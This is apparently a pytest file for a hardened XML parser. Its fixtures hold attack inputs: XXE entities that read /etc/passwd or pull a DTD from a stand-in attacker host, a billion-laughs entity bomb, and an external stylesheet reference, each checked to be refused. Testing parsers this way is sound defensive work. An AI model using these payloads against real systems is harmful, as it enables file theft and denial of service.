"""The hardened XML parser refuses DTDs, entities, bombs and oversize documents, naming why."""

from __future__ import annotations

import pytest

from engine.errors import UnsafeXml
from engine.xml import parse_xml

XXE_GENERAL = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</definitions>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/bpmn.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""

STYLESHEET_PI = b"""<?xml version="1.0"?>
<?xml-stylesheet href="http://attacker.example/x.xsl"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (XXE_GENERAL, "document type declarations"),
        (XXE_PARAMETER, "document type declarations"),
        (BILLION_LAUGHS, "document type declarations"),
        (EXTERNAL_DTD, "document type declarations"),
        (STYLESHEET_PI, "processing instructions"),
    ],
)
def test_dangerous_documents_are_refused_with_a_reason(document: bytes, reason: str) -> None:
    with pytest.raises(UnsafeXml) as caught:
        parse_xml(document, "evil.bpmn")
    assert reason in str(caught.value)
    assert caught.value.file == "evil.bpmn"
    assert caught.value.line is not None


def test_doctype_hidden_in_utf16_is_refused() -> None:
    with pytest.raises(UnsafeXml):
        parse_xml(XXE_GENERAL.decode().replace('encoding="UTF-8"', "").encode("utf-16"), "wide.bpmn")


def test_oversize_document_is_refused_before_parsing() -> None:
    big = b"<a>" + b"x" * 2000 + b"</a>"
    with pytest.raises(UnsafeXml) as caught:
        parse_xml(big, "big.bpmn", max_bytes=1000)
    assert "over the limit" in str(caught.value)


def test_malformed_xml_names_the_line() -> None:
    with pytest.raises(UnsafeXml) as caught:
        parse_xml(b"<a>\n<b>\n</a>", "broken.bpmn")
    assert caught.value.line == 3
    assert "not well-formed" in str(caught.value)


def test_plain_documents_parse_with_line_numbers() -> None:
    tree = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?>\n<a>\n  <b id="x"/>\n</a>', "ok.xml")
    b = tree.getroot()[0]
    assert b.get("id") == "x"
    assert b.sourceline == 3


def test_entities_are_not_resolved_even_without_doctype() -> None:
    # A reference to an undeclared entity is a well-formedness error, not an expansion.
    with pytest.raises(UnsafeXml):
        parse_xml(b"<a>&xxe;</a>")
